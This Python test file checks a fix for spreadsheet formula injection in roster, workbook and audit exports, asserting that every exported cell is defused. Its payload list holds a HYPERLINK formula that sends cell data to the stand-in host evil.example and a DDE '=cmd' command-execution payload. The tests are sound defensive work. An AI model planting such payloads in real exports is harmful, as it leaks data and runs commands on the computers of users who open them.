"""Issue 16, finding 2: formula injection. Text a spreadsheet would run as a formula
(`=HYPERLINK(…)`, `=cmd|…`, `+1+1`, `@SUM(1)`, a leading tab) left the roster CSV and
Excel files, the evaluation workbook and the audit CSV raw or as live formula cells — the
audit CSV took them from a login attempt's user name, without signing in."""

from __future__ import annotations

import csv
import io

import openpyxl
import pandas as pd
import pytest

from dispatch.text import spreadsheet_safe, spreadsheet_text
from store.audit import search
from store.db import make_engine
from store.roster import add_member, roster_file
from store.users import LoginError, login
from ui.workbook import csv_bytes, workbook

PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "=cmd|' /C calc'!A0", "+1+1",
            "-2+3", "@SUM(1)", "\t=1+1", "\r=1+1"]  # fmt: skip


def test_every_formula_start_becomes_text():
    for payload in PAYLOADS:
        assert spreadsheet_text(payload) == "'" + payload
    assert spreadsheet_text("李德辉") == "李德辉"
    assert spreadsheet_text(-3) == -3  # numbers stay numbers
    safe = spreadsheet_safe(pd.DataFrame({"=name": ["=1+1", "ok"], "n": [-1, 2]}))
    assert list(safe.columns) == ["'=name", "n"]
    assert safe.to_dict("list") == {"'=name": ["'=1+1", "ok"], "n": [-1, 2]}


def cells(book: bytes):
    for sheet in openpyxl.load_workbook(io.BytesIO(book)).worksheets:
        for row in sheet.iter_rows():
            yield from row


def test_exports_hold_no_live_formula(demo_db, figure):
    engine = make_engine(demo_db)
    for payload in PAYLOADS[:4]:
        add_member(engine, name=f"{payload}"[:60], kind="staff", role="staff", grid="G01",
                   specialty="repair", by="manager")  # fmt: skip
    with pytest.raises(LoginError):
        login(engine, PAYLOADS[1], "whatever")  # no sign-in needed to reach the audit trail
    roster = roster_file(engine)
    audit = search(engine, about="", user=PAYLOADS[1].lower())  # names are case-folded
    assert len(audit) == 1
    files = {
        "roster.xlsx": workbook({"roster": roster}),
        "evaluation-like.xlsx": workbook({"members": roster.rename(columns={"name": "=n"})}),
    }
    formulas = [c.coordinate for b in files.values() for c in cells(b) if c.data_type == "f"]
    assert formulas == []
    texts = [str(c.value) for b in files.values() for c in cells(b) if c.value is not None]
    assert not any(t.startswith(("=", "+", "-", "@", "\t", "\r")) for t in texts)
    for name, frame in {"roster.csv": roster, "audit.csv": audit}.items():
        rows = list(csv.reader(io.StringIO(csv_bytes(frame).decode("utf-8-sig"))))
        values = [v for row in rows for v in row]
        assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in values), name
    figure(
        f"exports: {len(PAYLOADS)} formula payloads in names and a login attempt; roster CSV "
        "and Excel, workbook, audit CSV: 0 live formula cells, 0 cells starting = + - @ tab CR"
    )
